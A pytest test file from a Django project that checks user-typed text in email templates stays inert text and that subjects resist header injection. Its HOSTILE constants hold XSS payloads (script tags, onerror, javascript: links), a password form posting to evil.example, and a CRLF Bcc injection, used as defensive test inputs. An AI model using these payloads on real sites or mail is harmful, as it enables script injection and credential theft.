"""What people write arrives in others' inboxes as text, never as live HTML (issue 16):
every email template is sent with hostile text in each field a person fills, and its HTML
part may hold no element or attribute beyond what the same email holds with plain words."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.conf import settings
from django.core import mail

from tests.coordination.builders import effort, people
from wsr.members.emails import email_send

HOSTILE = (
    "<script>alert(1)</script> <img src=x onerror=alert(1)> "
    "<form action=https://evil.example><input type=password name=p></form> "
    '"><a href=javascript:alert(1)>x</a>\r\nBcc: victim@example.org'
)
# For fields as short as a display name (120): the same attacks, fewer characters.
SHORT_HOSTILE = '<script>alert(1)</script><img src=x onerror=alert(1)>"><a href=javascript:x>x</a>'
# A link, because Markdown fields (thread posts) may hold one: the sanitizer's own <a>.
HARMLESS = "Plain words\nand [the notes](https://example.org/notes)"
VARIABLE = re.compile(r"(?:{{\s*|\bwith\s+\w+=|\bif\s+|\|\w+:)([a-z_]\w*(?:\.\w+)*)")
BOUND = re.compile(r"\bwith\s+(\w+)=")
# Not written by people: links the platform makes, dates, and switches.
NOT_TYPED = re.compile(r"(_url|^url|_at|^due|^date|_date|_due|^site_url|^count|^accepted)$")


def email_templates() -> list[str]:
    """Every app email with a subject, a text and an HTML part (digests aside: they are
    lists of entries, tested below through a notification)."""
    names = []
    for subject in sorted(Path(settings.BASE_DIR).glob("*/**/templates/*/email/*_subject.txt")):
        if ".venv" in subject.parts:
            continue
        name = str(subject.relative_to(subject.parents[2])).removesuffix("_subject.txt")
        if name.startswith("notifications/"):
            continue
        names.append(name)
    return names


def typed_fields(template: str) -> set[str]:
    from django.template.loader import get_template

    source = "".join(
        Path(get_template(f"{template}{suffix}").origin.name).read_text()
        for suffix in ("_subject.txt", ".txt")
    )
    bound = set(BOUND.findall(source))
    return {
        name
        for name in VARIABLE.findall(source)
        if not NOT_TYPED.search(name.split(".")[-1]) and name not in bound
    }


def context_of(template: str, text: str) -> dict:
    """Each field a person types set to `text` (`person.name`: an object with that name)."""
    context = {}
    for name in typed_fields(template):
        *parents, last = name.split(".")
        holder = context
        for parent in parents:
            holder = holder.setdefault(parent, {})
        holder[last] = text
    return context


class Shape(HTMLParser):
    """The tags and attributes of a document, and any script-bearing value."""

    def __init__(self, html: str):
        super().__init__()
        self.tags, self.attributes, self.bad = set(), set(), []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add((tag, name))
            if name.startswith("on") or "javascript:" in (value or "").lower().replace(" ", ""):
                self.bad.append((tag, name, value))


def sent(template: str, text: str):
    context = context_of(template, text)
    mail.outbox.clear()
    email_send(template=template, to=["someone@example.org"], context=context)
    (message,) = mail.outbox
    return message


def assert_inert(hostile_message, harmless_message):
    html, plain = hostile_message.alternatives[0][0], harmless_message.alternatives[0][0]
    shape, expected = Shape(html), Shape(plain)
    assert not shape.bad
    assert shape.tags <= expected.tags, shape.tags - expected.tags
    assert shape.attributes <= expected.attributes, shape.attributes - expected.attributes
    assert not {"script", "img", "form", "input"} & shape.tags
    assert "\n" not in hostile_message.subject and "\r" not in hostile_message.subject


@pytest.mark.django_db
@pytest.mark.parametrize("template", email_templates())
def test_hostile_text_in_every_field_of_an_email_stays_text(template):
    if not typed_fields(template):
        pytest.skip("nothing a person types")
    assert_inert(sent(template, HOSTILE), sent(template, HARMLESS))


def immediate_update(*, name: str, body: str, author_name: str):
    """An effort update, as its follower receives it at once (the notification's email)."""
    from coordination import services
    from notifications.models import Notification
    from notifications.services import notification_deliver, preferences_save

    p = people()
    p["owner"].profile.display_name = author_name
    p["owner"].profile.save()
    made = effort("members", None, p["owner"], name=name)
    follower = p["member"]
    preferences_save(user=follower, modes={"effort_update": "immediate"})
    services.effort_follow(effort=made, user=follower)
    mail.outbox.clear()
    services.update_post(effort=made, author=p["owner"], body=body, ask="", ask_detail="")
    for notification in Notification.objects.filter(recipient=follower):
        notification_deliver(notification_id=notification.pk)
    messages = [m for m in mail.outbox if m.to == [follower.email]]
    assert messages
    return messages[-1]


@pytest.mark.django_db
def test_an_effort_update_with_hostile_text_reaches_followers_as_text():
    hostile = immediate_update(name=HOSTILE, body=HOSTILE, author_name=SHORT_HOSTILE)
    harmless = immediate_update(name=HARMLESS, body=HARMLESS, author_name=HARMLESS)
    assert_inert(hostile, harmless)


def test_markdown_in_a_thread_post_is_rendered_through_the_sites_sanitizer():
    message = sent("coordination/email/mentioned", "**Strike** on [Monday](https://example.org) ")
    html = message.alternatives[0][0]
    assert "<strong>Strike</strong>" in html
    assert 'href="https://example.org"' in html
    hostile = sent("coordination/email/mentioned", HOSTILE).alternatives[0][0]
    assert not {"script", "img", "form", "input"} & Shape(hostile).tags
